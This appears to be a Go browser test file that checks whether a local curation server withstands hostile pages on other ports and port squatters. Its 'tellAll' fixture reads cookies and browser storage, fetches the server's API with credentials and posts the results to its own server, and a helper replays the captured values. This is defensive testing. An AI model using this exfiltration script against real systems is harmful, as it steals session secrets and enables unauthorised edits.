//go:build browser

package main

import (
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"

	"github.com/chromedp/chromedp"
	"github.com/chromedp/chromedp/kb"

	"hgld/curate"
	"hgld/curate/serve"
)

// overhearing is a server that notes all that it is sent, and shows a page that
// tells it what it can find.
type overhearing struct {
	page string

	mu    sync.Mutex
	heard []string // values of headers, addresses, bodies
	edits int      // requests to make one
	dumps []string // what its page found
}

func (o *overhearing) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	body, err := io.ReadAll(r.Body)
	if err != nil {
		return // the browser has gone
	}
	o.mu.Lock()
	defer o.mu.Unlock()
	o.heard = append(o.heard, r.RequestURI, string(body))
	for _, values := range r.Header {
		o.heard = append(o.heard, values...)
	}
	switch r.URL.Path {
	case "/":
		w.Header().Set("Content-Type", "text/html")
		fmt.Fprint(w, o.page)
	case "/dump":
		o.dumps = append(o.dumps, string(body))
	case "/api/edit":
		o.edits++
		fallthrough
	default: // as if all were well
		w.Header().Set("Content-Type", "application/json")
		w.Header().Set(serve.ProofHeader, r.Header.Get(serve.NonceHeader))
		fmt.Fprint(w, `{"seq":99,"version":99,"undo":0,"redo":0,"sizes":[23,99,2],"tags":{},"groups":[]}`)
	}
}

// all is what was overheard, in pieces that could be a secret.
func (o *overhearing) all() []string {
	o.mu.Lock()
	defer o.mu.Unlock()
	pieces := func(r rune) bool { return strings.ContainsRune(" \t\n\"'{}[]:,;=&?#\\", r) }
	var list []string
	for _, text := range append(slices.Clone(o.heard), o.dumps...) {
		list = append(list, text)
		list = append(list, strings.FieldsFunc(text, pieces)...)
	}
	slices.Sort(list)
	return slices.DeleteFunc(slices.Compact(list),
		func(s string) bool { return len(s) < 8 || strings.ContainsAny(s, "\r\n\x00") })
}

func (o *overhearing) dumped() string {
	o.mu.Lock()
	defer o.mu.Unlock()
	return strings.Join(o.dumps, "\n")
}

// tellAll is a script that sends what it finds to its own server.
const tellAll = `<!DOCTYPE html><title>local</title><script type="module">
const found = [document.cookie, JSON.stringify(localStorage), JSON.stringify(sessionStorage)];
for (const path of %s) {
	for (const o of [{}, {credentials: "include"}, {mode: "no-cors", credentials: "include"}]) {
		try { const r = await fetch(path, o); found.push(path, await r.text()); } catch (e) { found.push(String(e)); }
	}
}
await fetch("/dump", {method: "POST", body: found.join("\n")});
document.title = "told";
</script>`

// tries asks a server for everything with each of the texts in each place where a
// secret could stand, as a program can, and returns what was answered otherwise
// than by a refusal.
func tries(t *testing.T, address string, texts []string) (answered []string) {
	t.Helper()
	ask := func(method, path, body, token, cookie string) {
		r, err := http.NewRequest(method, "http://"+address+path, strings.NewReader(body))
		if err != nil {
			return // no such address
		}
		_, port, _ := strings.Cut(address, ":")
		r.Header = http.Header{serve.TokenHeader: {token}, "Cookie": {"hgld-" + port + "=" + cookie},
			"Origin": {"http://" + address}, "Content-Type": {"application/json"}}
		resp, err := http.DefaultTransport.RoundTrip(r)
		if err != nil {
			return // a text that no header may hold
		}
		defer resp.Body.Close()
		if data, err := io.ReadAll(resp.Body); err != nil || resp.StatusCode != http.StatusForbidden {
			answered = append(answered, fmt.Sprintf("%s %s with %.40q: %s %.200s %v", method, path, token, resp.Status, data,
				err))
		}
	}
	for _, text := range append(texts, "") {
		ask("GET", "/api/state", "", text, text)
		ask("POST", "/api/edit", `{"id":"12345678","base":0,"op":"move","from":[{"name":"church"}],"to":"stolen"}`, text,
			text)
		key, err := json.Marshal(map[string]string{"key": text})
		if err != nil {
			t.Fatal(err)
		}
		ask("POST", "/api/open", string(key), text, text)
	}
	return answered
}

// Another local server that the curator opens in the same browser learns nothing by
// which it, or its page, could read the labels or make an edit. A browser sends a
// cookie to all ports of a host.
func TestBrowserGivesAnotherPortNothing(t *testing.T) {
	dir := smallProject(t)
	s := serveIn(t, dir, "--port", freePort(t), "--by", "Anna")
	base := s.url[:strings.Index(s.url, "#")]
	b := newBrowser(t, 1280, 800, false)
	b.open(s.url)
	b.keys(kb.Escape, "l", "m")
	b.take("one")
	b.saved(1)
	if found := eval[string](b, `document.cookie + location.href`); strings.Contains(found, "key=") ||
		strings.Contains(found, "hgld") {
		t.Errorf("the page's cookies and address are %s", found)
	}
	o := &overhearing{page: fmt.Sprintf(tellAll,
		fmt.Sprintf(`[%q, %q, %q, %q]`, base, base+"api/state", base+"page/app.js", base+"api/changes?since=0"))}
	web := httptest.NewServer(o)
	defer web.Close()
	other := b.tab()
	other.run(chromedp.Navigate(web.URL))
	other.until("the page of the other port has told all", `document.title === "told"`)
	if dump := o.dumped(); strings.Contains(dump, "church") || strings.Contains(dump, "edits.jsonl") {
		t.Errorf("the page of another port has read:\n%s", dump)
	}
	pass := eval[map[string]string](b, `JSON.parse(sessionStorage.getItem("hgld pass"))`)
	for _, text := range o.all() {
		if strings.Contains(text, pass["token"]) || strings.Contains(text, pass["secret"]) {
			t.Errorf("the server of another port was sent %q", text)
		}
	}
	if answered := tries(t, strings.TrimSuffix(strings.TrimPrefix(base, "http://"), "/"), o.all()); len(answered) > 0 {
		t.Errorf("with what it was sent it was answered:\n%s", strings.Join(answered, "\n"))
	}
	b.clean()
	s.stop()
	if c, err := curate.ReadLog(filepath.Join(dir, "edits.jsonl")); err != nil || len(c.Edits) != 1 {
		t.Errorf("the log has %d edits, %v; want Anna's own", len(c.Edits), err)
	}
}

// A program that takes the port when the server has ended is not believed that an
// edit is saved, is not even told it, and learns nothing that the next server
// accepts, though its page runs at the page's own address. The edits that wait are
// sent once the next link has been opened.
func TestBrowserIsNotFooledByWhoTakesThePort(t *testing.T) {
	dir := smallProject(t)
	port := freePort(t)
	s := serveIn(t, dir, "--port", port, "--by", "Anna")
	b := newBrowser(t, 1280, 800, false)
	b.open(s.url)
	b.keys(kb.Escape, "l", "m")
	b.take("one")
	b.saved(1)
	reloaded := b.tab()
	reloaded.open(s.next())
	s.kill()

	o := &overhearing{page: fmt.Sprintf(tellAll, `["/"]`)}
	l, err := net.Listen("tcp", "127.0.0.1:"+port)
	if err != nil {
		t.Fatal(err)
	}
	squatter := &http.Server{Handler: o}
	go squatter.Serve(l) // ends by Close
	b.until("the page knows", `document.getElementById("alarm").textContent.includes("has ended. Nothing is lost")`)
	b.keys("j", "m")
	b.take("two")
	b.keys("j", "m")
	b.take("three")
	b.until("two wait", `document.getElementById("saved").textContent === "NOT SAVED: 2 edits"`)
	reloaded.run(chromedp.Navigate("http://127.0.0.1:" + port + "/?again"))
	reloaded.until("the squatter's page has told all", `document.title === "told"`)
	if dump := o.dumped(); !strings.Contains(dump, "hgld pass") {
		t.Errorf("the squatter's page did not find what the tab had:\n%s", dump)
	}
	o.mu.Lock()
	edits := o.edits
	o.mu.Unlock()
	if edits > 0 {
		t.Errorf("the squatter was told %d edits", edits)
	}
	if err := squatter.Close(); err != nil {
		t.Fatal(err)
	}

	s.start()
	if answered := tries(t, "127.0.0.1:"+port, o.all()); len(answered) > 0 {
		t.Errorf("with what the squatter was sent the next server answers:\n%s", strings.Join(answered, "\n"))
	}
	b.until("they still wait", `document.getElementById("saved").textContent === "NOT SAVED: 2 edits"`)
	b.openHere(s.url)
	b.saved(3)
	b.until("calm again", `document.getElementById("alarm").hidden`)
	b.clean()
	s.stop()
	c, err := curate.ReadLog(filepath.Join(dir, "edits.jsonl"))
	if err != nil {
		t.Fatal(err)
	}
	var to []string
	for _, e := range c.Edits {
		to = append(to, e.To)
	}
	if fmt.Sprint(to) != "[one two three]" {
		t.Errorf("the log has %v", to)
	}
}

// Edits that wait in a tab are sent by another tab that opens the next link, after
// the first was closed too; the first learns that they are.
func TestBrowserSendsWhatWaitsFromAnotherTab(t *testing.T) {
	dir := smallProject(t)
	s := serveIn(t, dir, "--port", freePort(t), "--by", "Anna")
	b := newBrowser(t, 1280, 800, false)
	b.open(s.url)
	b.keys(kb.Escape)
	s.kill()
	b.until("the alarm", `document.getElementById("alarm").textContent.includes("server is gone")`)
	b.keys("l", "m")
	b.take("one")
	b.until("it waits", `document.getElementById("saved").textContent === "NOT SAVED: 1 edit"`)
	s.start()
	other := b.tab()
	other.open(s.url)
	other.saved(1)
	b.until("the first tab knows", `document.getElementById("alarm").textContent.includes("has ended. Nothing is lost")`)

	// A tab without a pass, and one with that of a server that has ended, say what to do.
	stranger := b.tab()
	stranger.run(chromedp.Navigate(s.url[:strings.Index(s.url, "#")]))
	stranger.until("it says so", `document.getElementById("alarm").textContent.includes("has no access; open the latest link")`)
	b.run(chromedp.Reload())
	b.until("it says so", `document.getElementById("alarm").textContent.includes("has ended. Open the latest link")`)
	b.openHere(s.next())
	b.saved(1)
	s.stop()
	if c, err := curate.ReadLog(filepath.Join(dir, "edits.jsonl")); err != nil || len(c.Edits) != 1 {
		t.Errorf("the log has %d edits, %v; want one", len(c.Edits), err)
	}
}
